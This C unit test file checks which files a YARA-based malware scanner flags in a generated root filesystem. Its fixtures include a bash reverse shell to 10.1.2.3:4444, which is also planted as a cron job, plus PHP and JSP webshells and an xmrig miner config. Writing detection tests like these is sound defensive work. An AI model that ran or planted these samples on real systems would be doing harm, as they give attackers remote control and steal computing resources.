// SPDX-License-Identifier: GPL-2.0
/*
 * Which files the YARA analyzer scans (scan/yara_analyzer.c), through a
 * whole scan of a root file system directory written here, with the
 * rules of rules/yara. Text documents in drop directories are scanned
 * only when they start like a program, other files there always. Every
 * copy of matching content is reported when the blocklist makes the walk
 * compute file digests. Run from the repository root.
 */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <cmocka.h>

#include "scan/scan.h"

#define REVERSE_SHELL	"bash -i >& /dev/tcp/10.1.2.3/4444 0>&1\n"
#define WEBSHELL	"<?php @eval($_POST['cmd']); ?>\n"
/* A made-up Monero address: "4", then 94 base58 characters. */
#define WALLET		"4A" "1111111111111111111111111111111111111111111" \
			"11111111111111111111111111111111111111111111111111"

static char tmpdir[64];

static void write_file(const char *name, const char *content, mode_t mode)
{
	char path[256], *slash;
	FILE *f;

	snprintf(path, sizeof(path), "%s/root/%s", tmpdir, name);
	for (slash = strchr(path + strlen(tmpdir) + 1, '/'); slash; slash = strchr(slash + 1, '/')) {
		*slash = '\0';
		mkdir(path, 0755);
		*slash = '/';
	}
	f = fopen(path, "w");
	assert_non_null(f);
	assert_int_equal(fputs(content, f) >= 0, 1);
	fclose(f);
	assert_int_equal(chmod(path, mode), 0);
}

static int scan_root(struct dsec_scan *scan, const char *blocklist)
{
	char input[128];
	struct dsec_scan_options opts = {
		.yara_dir = "rules/yara",
		.blocklist = blocklist,
		.skip_vulns = true,
		.skip_secrets = true,
		.skip_misconfig = true,
	};

	snprintf(input, sizeof(input), "%s/root", tmpdir);
	opts.input = input;
	dsec_scan_init(scan, &opts);
	return dsec_scan_image(scan);
}

static size_t count_malware(const struct dsec_scan *scan, const char *path, const char *id)
{
	size_t i, n = 0;

	for (i = 0; i < scan->n_findings; i++)
		if (scan->findings[i].class == DSEC_FINDING_MALWARE &&
		    !strcmp(scan->findings[i].path, path) && !strcmp(scan->findings[i].id, id))
			n++;
	return n;
}

static size_t count_class(const struct dsec_scan *scan, enum dsec_finding_class class)
{
	size_t i, n = 0;

	for (i = 0; i < scan->n_findings; i++)
		n += scan->findings[i].class == class;
	return n;
}

static int setup_tmp(void **state)
{
	strcpy(tmpdir, "/tmp/dsec-test-yara-an.XXXXXX");
	assert_non_null(mkdtemp(tmpdir));
	return 0;
}

static int teardown_tmp(void **state)
{
	char cmd[128];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
	return system(cmd) == 0 ? 0 : -1;
}

static void test_document_in_drop_dir(void **state)
{
	struct dsec_scan scan;

	write_file("srv/notes.txt", "deploy notes\n" REVERSE_SHELL, 0644);
	write_file("srv/run.txt", "#!/bin/bash\n" REVERSE_SHELL, 0644);
	write_file("var/www/html/upload.txt", WEBSHELL, 0644);
	write_file("tmp/readme.md", "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>\n",
		   0644);

	assert_int_equal(scan_root(&scan, NULL), 0);
	/* A document that does not start like a program is not scanned. */
	assert_int_equal(count_malware(&scan, "/srv/notes.txt", "DSEC-MAL-REVERSE-SHELL"), 0);
	assert_int_equal(count_malware(&scan, "/srv/run.txt", "DSEC-MAL-REVERSE-SHELL"), 1);
	assert_int_equal(count_malware(&scan, "/var/www/html/upload.txt", "DSEC-MAL-WEBSHELL"), 1);
	assert_int_equal(count_malware(&scan, "/tmp/readme.md", "DSEC-MAL-WEBSHELL"), 1);
	assert_int_equal(count_class(&scan, DSEC_FINDING_MALWARE), 3);
	dsec_scan_free(&scan);
}

static void test_other_files_in_drop_dir(void **state)
{
	struct dsec_scan scan;

	write_file("root/.xmrig.json",
		   "{\n \"pools\": [\n  {\n   \"url\": \"pool.example.invalid:443\",\n"
		   "   \"user\": \"" WALLET "\"\n  }\n ]\n}\n", 0600);
	write_file("etc/cron.d/update", "* * * * * root " REVERSE_SHELL, 0644);
	write_file("usr/share/doc/app/notes", REVERSE_SHELL, 0644);

	assert_int_equal(scan_root(&scan, NULL), 0);
	assert_int_equal(count_malware(&scan, "/root/.xmrig.json", "DSEC-MAL-MINER-CONFIG"), 1);
	assert_int_equal(count_malware(&scan, "/etc/cron.d/update", "DSEC-MAL-REVERSE-SHELL"), 1);
	/* Outside the drop directories, a file without an execute bit or script suffix. */
	assert_int_equal(count_malware(&scan, "/usr/share/doc/app/notes", "DSEC-MAL-REVERSE-SHELL"),
			 0);
	dsec_scan_free(&scan);
}

/* Identical content at several paths: clean copies may be skipped, matches never. */
static void test_copies_with_digests(void **state)
{
	char blocklist[128];
	struct dsec_scan scan;
	FILE *f;

	snprintf(blocklist, sizeof(blocklist), "%s/blocklist.txt", tmpdir);
	f = fopen(blocklist, "w");
	assert_non_null(f);
	fputs("0000000000000000000000000000000000000000000000000000000000000001 none\n", f);
	fclose(f);
	write_file("opt/a/check", "#!/bin/sh\n" REVERSE_SHELL, 0755);
	write_file("opt/b/check", "#!/bin/sh\n" REVERSE_SHELL, 0755);
	write_file("opt/c/check", "#!/bin/sh\n" REVERSE_SHELL, 0755);
	write_file("opt/a/clean", "#!/bin/sh\necho hello\n", 0755);
	write_file("opt/b/clean", "#!/bin/sh\necho hello\n", 0755);

	assert_int_equal(scan_root(&scan, blocklist), 0);
	assert_int_equal(count_malware(&scan, "/opt/a/check", "DSEC-MAL-REVERSE-SHELL"), 1);
	assert_int_equal(count_malware(&scan, "/opt/b/check", "DSEC-MAL-REVERSE-SHELL"), 1);
	assert_int_equal(count_malware(&scan, "/opt/c/check", "DSEC-MAL-REVERSE-SHELL"), 1);
	assert_int_equal(count_class(&scan, DSEC_FINDING_MALWARE), 3);
	dsec_scan_free(&scan);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_document_in_drop_dir, setup_tmp,
						teardown_tmp),
		cmocka_unit_test_setup_teardown(test_other_files_in_drop_dir, setup_tmp,
						teardown_tmp),
		cmocka_unit_test_setup_teardown(test_copies_with_digests, setup_tmp,
						teardown_tmp),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
